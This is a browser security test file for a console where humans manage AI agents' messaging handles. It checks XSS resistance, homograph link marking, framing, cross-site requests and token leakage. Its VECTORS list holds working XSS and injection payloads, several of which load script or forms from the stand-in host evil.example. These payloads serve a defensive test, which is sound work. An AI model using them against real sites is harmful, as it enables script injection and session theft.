/** What another agent, another site or another human on the same browser may try against the console. */
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { BrowserContext, Page } from "playwright-core";
import { beforeAll, describe, expect, it } from "vitest";
import { openChromium } from "../harness/chromium.js";
import { readSuite, skipNote } from "../harness/conformance-suites.js";
import { type Console, openConsole, ownedHandle, signedIn, signIn, signOut } from "../harness/console.js";
import type { AgentClient } from "../harness/daemon.js";
import { NO_LIMITS } from "../harness/daemon.js";
import { daemonFixture } from "../harness/daemon-fixture.js";
import { OAUTH_DAEMON, OAuthHuman } from "../harness/oauth.js";

const browser = await openChromium();
const { daemon } = await daemonFixture([], { ...OAUTH_DAEMON, args: [...OAUTH_DAEMON.args, ...NO_LIMITS] });

/** Ways to run a script, or to leave the page, from text that a page took for markup or for a URL. */
const VECTORS = [
  `<script>window.hit=1</script>`,
  `"><script src=//evil.example/x.js></script>`,
  `<img src=x onerror="window.hit=1">`,
  `<svg/onload=window.hit=1>`,
  `<iframe srcdoc="<script>parent.hit=1</script>"></iframe>`,
  `<a href="javascript:window.hit=1">x</a>`,
  `javascript:window.hit=1`,
  `data:text/html,<script>parent.hit=1</script>`,
  `' onfocus=window.hit=1 autofocus='`,
  `" style="position:fixed;inset:0" onmouseover="window.hit=1`,
  `</title><script>window.hit=1</script>`,
  `</textarea><script>window.hit=1</script>`,
  `<style>@import '//evil.example/x.css'</style>`,
  `<form action=//evil.example><button>Sign in</button></form>`,
  `<base href=//evil.example/>`,
  `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<object data=//evil.example></object><embed src=//evil.example>`,
  `{{constructor.constructor('window.hit=1')()}}`,
  `\${window.hit=1}`,
  `<details open ontoggle=window.hit=1>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=window.hit=1>`,
  `https://evil.example/\u202ecod.exe`,
  `http://user:pass@evil.example:80/%0d%0aSet-Cookie:x=1`,
  `https://evil.example"onclick="window.hit=1`,
];

const NAUGHTY = readSuite<string[]>("naughty/blns.json");
const TEXTS = [...VECTORS, ...(NAUGHTY ?? []).filter((text) => text !== "" && !text.includes("\0"))];

/** Waits until a view has loaded its data. */
async function settled(page: Page): Promise<void> {
  await page.getByRole("heading", { level: 1 }).waitFor();
  await expect.poll(() => page.getByText("Loading …").count()).toBe(0);
}

/** Watches a page for anything that runs, opens or is requested elsewhere. */
function watch(page: Page): string[] {
  const found: string[] = [];
  page.on("dialog", (dialog) => {
    found.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("pageerror", (error) => found.push(`error: ${error}`));
  page.on("console", (message) => {
    if (/content security policy/i.test(message.text())) found.push(`CSP: ${message.text()}`);
  });
  page.on("request", (request) => {
    if (!request.url().startsWith(`${daemon.origin}/`)) found.push(`request: ${request.url()}`);
  });
  page.on("popup", (popup) => found.push(`popup: ${popup.url()}`));
  return found;
}

/** Elements that the console itself never renders, and attributes that run scripts. */
const FOREIGN = `Array.from(document.querySelectorAll(
  "#app :is(script, style, iframe, img, svg:not(.activity > svg), object, embed, base, meta, math, form[action], [srcdoc])"), (each) => each.outerHTML)
  .concat(Array.from(document.querySelectorAll("#app *")).flatMap((each) => Array.from(each.attributes))
    .filter(({ name, value }) => name.startsWith("on") || name === "style" || /^\\s*(javascript|data):/i.test(value))
    .map(({ name, value }) => name + "=" + value))
  .concat(window.hit === undefined ? [] : ["a script ran"])`;

describe.skipIf(!browser)("attacks on the console", () => {
  let open: Console;
  let context: BrowserContext;
  let mallory: AgentClient;
  const goto = (page: Page, path: string) => page.goto(`${daemon.origin}/console${path}`);

  beforeAll(async () => {
    if (!browser) return;
    open = await openConsole(browser, daemon);
    context = open.page.context();
    await ownedHandle(daemon, open.owner, "alice-agent");
    const other = await OAuthHuman.signUp(daemon);
    mallory = await ownedHandle(daemon, daemon.client(await other.idToken()), "mallory");
  });

  // [D16-agent-text]
  it(`shows what an agent wrote as text on every page, and nothing of it runs${skipNote(NAUGHTY)}`, {
    timeout: 90_000,
  }, async () => {
    const alice = await ownedHandle(daemon, open.owner, "carol-agent");
    const [text, more] = [TEXTS.slice(0, 60).join("\n"), TEXTS.slice(60)];
    const payload = { keys: Object.fromEntries(TEXTS.map((each) => [each, 1])), values: TEXTS };
    // Whatever a field does not accept is left out.
    await mallory.put("/profile", { display_name: VECTORS[0], bio: VECTORS.join("\n").slice(0, 500) });
    await mallory.post("/spaces", {
      slug: "trap",
      visibility: "public",
      description: VECTORS.join(" ").slice(0, 900),
      tags: ["x<img>"],
    });
    const wires: string[] = [];
    const send = async (body: object) => {
      const { status, body: sent } = await mallory.post("/wires", body);
      expect(status, JSON.stringify(sent)).toBe(201);
      wires.push(sent.id);
    };
    await send({ to: "@alice-agent", text, payload });
    for (let at = 0; at < more.length; at += 60)
      await send({ to: "@alice-agent", text: more.slice(at, at + 60).join("\n") });
    await send({ to: "#trap", text, payload });
    await open.owner.put("/handles/carol-agent/egress", { mode: "approval" });
    for (const target of ["@mallory", "#trap"])
      expect((await alice.post("/wires", { to: target, text, payload })).status).toBe(202);
    await mallory.post("/knocks", { handle: "carol-agent", intro: VECTORS.join(" ").slice(0, 300) });

    const { approvals } = (await open.owner.get("/approvals")).body;
    const paths = [
      ...[
        "/",
        "/approvals",
        `/approvals/${approvals[0].id}`,
        "/handles",
        "/handles/alice-agent",
        "/audit",
        "/account",
      ],
      ...[
        "/inbox",
        "/inbox?as=alice-agent",
        `/threads/${wires[0]}?as=alice-agent`,
        `/wires/${wires[0]}?as=alice-agent`,
      ],
      ...[
        "/sent?as=carol-agent",
        "/spaces?as=alice-agent",
        "/spaces/trap?as=alice-agent",
        "/spaces/trap/settings?as=alice-agent",
      ],
      ...["/spaces/trap/members?as=alice-agent", "/people?as=carol-agent", "/people?as=alice-agent"],
      ...VECTORS.slice(0, 6).map((each) => `/${encodeURIComponent(each)}?as=${encodeURIComponent(each)}`),
      `/spaces/${encodeURIComponent(VECTORS[2]!)}?as=${encodeURIComponent(VECTORS[2]!)}&q=${encodeURIComponent(VECTORS[2]!)}`,
    ];
    const page = await context.newPage();
    const found = watch(page);
    let shown = 0;
    for (const path of paths) {
      await goto(page, path);
      await settled(page);
      // Unfolds everything.
      await page.evaluate("for (const each of document.querySelectorAll('details')) each.open = true");
      expect(await page.evaluate(FOREIGN), path).toEqual([]);
      if ((await page.content()).includes("window.hit=1")) shown++;
      await page.mouse.move(300, 300);
    }
    expect(found).toEqual([]);
    // The texts were really there.
    expect(shown).toBeGreaterThan(5);
    await page.close();
  });

  // [D16-agent-text]
  it("does not open a link without showing where it leads", async () => {
    const { body } = await mallory.post("/wires", {
      to: "@alice-agent",
      text: "see https://\u0430pple.com/login or p\u0430ypal.com please",
    });
    const page = await context.newPage();
    const found = watch(page);
    await goto(page, `/wires/${body.id}?as=alice-agent`);
    // Both hosts are marked in place.
    await expect
      .poll(() => page.locator(".wire .mark").allInnerTexts())
      .toEqual(["xn--pple-43d.com", "xn--pypal-4ve.com"]);
    await page.getByRole("button", { name: "https://" }).click();
    const dialog = page.getByRole("dialog");
    expect(await dialog.innerText()).toContain("xn--pple-43d.com");
    const link = dialog.getByRole("link");
    expect(await link.getAttribute("rel")).toContain("noopener noreferrer");
    expect(found).toEqual([]);
    await page.close();
  });

  // [D21-callback]
  it("shows no text of the address of its callback, and stays signed in", async () => {
    const page = await context.newPage();
    const text = "Your account was locked. Call +47 555 12345.";
    await goto(page, `/callback?error=access_denied&error_description=${encodeURIComponent(text)}&state=x`);
    await signedIn(page);
    expect(await page.content()).not.toContain("locked");
    expect(page.url()).toBe(`${daemon.origin}/console`);
    await page.close();
  });

  // [D16-csp]
  it("cannot be framed by another site", async () => {
    const server = createServer((_request, response) => {
      response.setHeader("content-type", "text/html");
      response.end(`<iframe src="${daemon.origin}/console/approvals"></iframe>`);
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    // Another name of this machine is another site.
    const page = await context.newPage();
    await page.goto(`http://localhost:${(server.address() as AddressInfo).port}`);
    const frame = page.frames()[1]!;
    await expect.poll(() => frame.url()).toMatch(/^chrome-error:/);
    server.close();
    await page.close();
  });

  // [D16-console-origin]
  it("answers no request of another site, although the browser has a session", async () => {
    const page = await context.newPage();
    const server = createServer((_request, response) =>
      response.setHeader("content-type", "text/html").end("evil"),
    );
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    await page.goto(`http://localhost:${(server.address() as AddressInfo).port}`);
    const attempt = (method: string, mode: string) =>
      page.evaluate(
        `fetch("${daemon.origin}/identity/console/session", { method: "${method}", mode: "${mode}", credentials: "include",
          body: ${method === "POST" ? `'{"grant_type":"refresh_token"}'` : "undefined"} })
          .then(async (response) => response.type + (await response.text()), () => "refused")`,
      );
    expect(await attempt("POST", "cors")).toBe("refused");
    expect(await attempt("DELETE", "cors")).toBe("refused");
    expect(await attempt("POST", "no-cors")).toBe("opaque");
    server.close();
    await page.close();
    // The session has survived, and is still the human's.
    await open.page.reload();
    await open.page.getByRole("navigation", { name: "Sections" }).waitFor();
  });

  // [D16-console-cookie]
  it("keeps tokens out of URLs, storage, history and the log", async () => {
    const page = await context.newPage();
    const tokens: string[] = [];
    const urls: string[] = [];
    page.on("request", (request) => {
      urls.push(request.url());
      const token = request.headers().authorization?.slice("Bearer ".length);
      if (token) tokens.push(token);
    });
    await goto(page, "/sent?as=alice-agent");
    await settled(page);
    expect(tokens.length).toBeGreaterThan(1);
    const kept = await page.evaluate<string>(
      "JSON.stringify([document.cookie, {...localStorage}, {...sessionStorage}, history.state, location.href, document.referrer])",
    );
    const cookies = await context.cookies(`${daemon.origin}/identity/console/session`);
    const secrets = [...tokens, ...cookies.map(({ value }) => value)];
    for (const secret of secrets) {
      expect(kept).not.toContain(secret);
      expect(urls.join()).not.toContain(secret);
      expect(daemon.log()).not.toContain(secret);
    }
    expect(cookies.find(({ name }) => name === "wireroom_console")).toMatchObject({
      httpOnly: true,
      sameSite: "Strict",
    });
    expect((await context.cookies(`${daemon.origin}/console`)).map(({ name }) => name)).not.toContain(
      "wireroom_console",
    );
    await page.close();
  });

  // [D16-console-sign-out]
  it("shows nothing of a human in whose place another one has signed in in another tab", async () => {
    const { page: first, email } = await openConsole(browser!, daemon, { path: "/account" });
    await first.getByText(email).waitFor();
    await first.context().clearCookies();
    const second = await OAuthHuman.signUp(daemon);
    const other = await first.context().newPage();
    await goto(other, "");
    await signIn(other, second.email);
    // The daemon rejects the token of the first tab once, as it does when the token has expired.
    await first.route(
      "**/v1/audit*",
      (route) => route.fulfill({ status: 403, json: { code: "FORBIDDEN", message: "expired" } }),
      { times: 1 },
    );
    const reloaded = first.waitForEvent("load");
    await first.getByRole("link", { name: "Audit log" }).click();
    await reloaded;
    await signedIn(first);
    await first.getByRole("link", { name: "Account" }).click();
    await first.getByText(second.email).waitFor();
    expect(await first.content()).not.toContain(email);
    await first.context().close();
  });

  // [D16-console-sign-out]
  it("shows a second human on the same browser nothing of the first one", async () => {
    const page = await context.newPage();
    await goto(page, "/handles/alice-agent");
    await page.getByRole("heading", { name: "@alice-agent" }).waitFor();
    await signOut(page);
    const second = await OAuthHuman.signUp(daemon);
    await signIn(page, second.email);
    await goto(page, "/handles/alice-agent");
    await page.getByRole("heading", { name: "You have no handle @alice-agent" }).waitFor();
    await goto(page, "/handles");
    await page.getByRole("button", { name: "Create the handle and a key" }).waitFor();
    expect(await page.content()).not.toContain("alice-agent");
    await page.close();
  });
});
